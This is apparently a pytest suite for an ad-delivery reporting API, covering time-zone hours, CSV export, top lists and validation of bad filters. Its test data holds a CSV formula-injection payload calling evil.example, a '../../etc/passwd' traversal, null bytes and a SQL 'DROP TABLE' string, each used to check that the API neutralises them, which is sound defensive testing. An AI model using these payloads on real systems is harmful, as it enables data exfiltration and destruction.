"""`/v1/reports/delivery`: zones, attribution and top lists over HTTP, and filters that make no sense."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from typing import Any
from urllib.parse import quote, urlencode
from zoneinfo import ZoneInfo

import msgspec
import pytest

from tests.api.conftest import hold
from tests.api.running_api import RunningApi, until
from tests.api.test_engagements import BROWSER

REPORT = "/v1/reports/delivery"


async def get(api: RunningApi, query: str, **headers: str) -> tuple[int, bytes]:
    async with api.http.get(f"{REPORT}?{query}", headers=api.authorized | headers) as response:
        return response.status, await response.read()


async def test_hours_of_a_zone_in_json_and_csv(api: RunningApi) -> None:
    """A win and its impression stand in the hour that the zone's clocks show, with its offset, in either form."""
    zone = ZoneInfo("Asia/Kathmandu")
    before = datetime.now(UTC)
    auction = await hold(api, site={"domain": "zone.example", "publisher": {"id": "pub-zone"}})
    async with api.http.get(auction.impression_url, headers=BROWSER):
        pass
    hours = {at.astimezone(zone).replace(minute=0, second=0, microsecond=0) for at in (before, datetime.now(UTC))}
    query = urlencode({"by": "hour", "tz": zone.key, "attributed": "auction", "site": "zone.example"})
    report: dict[str, Any] = {}

    async def is_counted() -> bool:
        nonlocal report
        report = msgspec.json.decode((await get(api, query))[1])
        return bool(report["totals"]["impressions"] and report["totals"]["wins"])

    await until(is_counted, seconds=20)
    assert {datetime.fromisoformat(row["hour"]) for row in report["rows"]} <= hours
    assert all(row["hour"].endswith(":00:00+05:45") for row in report["rows"])
    _, body = await get(api, query, Accept="text/csv")
    lines = list(csv.DictReader(io.StringIO(body.decode())))
    assert [(line["hour"], int(line["impressions"]), int(line["reach"])) for line in lines] == [
        (row["hour"], row["impressions"], row["reach"]) for row in report["rows"]
    ]


async def test_csv_for_a_spreadsheet(api: RunningApi) -> None:
    """Totals stand in lines of their own, and a site that calls itself a formula is a text."""
    formula = '=hyperlink("https://evil.example/"&a1)'
    for site in (formula, "plain.example"):
        await hold(api, site={"domain": site, "publisher": {"id": "pub-sheet"}})
    query = "publisher=pub-sheet&by=site&totals=true"
    total: dict[str, Any] = {}

    async def is_counted() -> bool:
        nonlocal total
        total = msgspec.json.decode((await get(api, query))[1])["totals"]
        return bool(total["bids"] == 4)

    await until(is_counted, seconds=20)
    *rows, last = csv.DictReader(io.StringIO((await get(api, query, Accept="text/csv"))[1].decode()))
    assert {row["site"] for row in rows} == {f"'{formula}", "plain.example"}
    assert {row["line"] for row in rows} == {"row"}
    assert (last["line"], last["site"], last["currency"]) == ("total", "", "USD")
    assert (last["requests"], last["bids"], last["spend"]) == ("2", "4", total["spend"])


async def test_a_top_list(api: RunningApi) -> None:
    """Of each currency so many rows as asked for, the highest first, under the totals of all."""
    for number in range(3):
        for _ in range(number + 1):
            await hold(api, site={"domain": f"top-{number}.example", "publisher": {"id": "pub-top"}})
    query = "publisher=pub-top&by=site&top=2&order=bids"
    report: dict[str, Any] = {}

    async def is_counted() -> bool:
        nonlocal report
        report = msgspec.json.decode((await get(api, query))[1])
        return bool(report["totals"]["bids"] == 12)

    await until(is_counted, seconds=20)
    assert [(row["site"], row["bids"]) for row in report["rows"]] == [("top-2.example", 6), ("top-1.example", 4)]


@pytest.mark.parametrize(
    ("query", "path"),
    [
        ("tz=Mars/Olympus_Mons", "tz"),
        ("tz=../../etc/passwd", "tz"),
        ("tz=", "tz"),
        ("attributed=yesterday", "attributed"),
        ("top=0", "top"),
        ("top=1001", "top"),
        ("top=many", "top"),
        ("order=reach", "order"),
        ("device_type=99999", "device_type"),
        ("device_type=", "device_type"),
        ("day=noon", "day"),
        ("hour=99999999999999999999", "hour"),
        (f"hour={quote('0001-01-01T00:00:00+23:59')}", "hour"),
        ("hour=0001-01-01T00:00:00&tz=Asia/Kathmandu", "hour"),
        ("site=%00", "site"),
        ("campaign=a&campaign=b%00", "campaign"),
    ],
)
async def test_what_makes_no_sense_is_named(api: RunningApi, query: str, path: str) -> None:
    """A zone, a choice or a filter that there cannot be is a fault with its name, never a mistake of ours."""
    status, body = await get(api, query)
    assert status == 400, body
    assert [fault["path"] for fault in msgspec.json.decode(body)["errors"]] == [path]


async def test_filters_that_meet_nothing(api: RunningApi) -> None:
    """Any text may be asked for: what nobody has gives an empty report."""
    for value in ("'; DROP TABLE delivery; --", "💥", "x" * 4_000):
        status, body = await get(api, urlencode([("campaign", value), ("campaign", "other")]))
        assert (status, msgspec.json.decode(body)["rows"]) == (200, [])
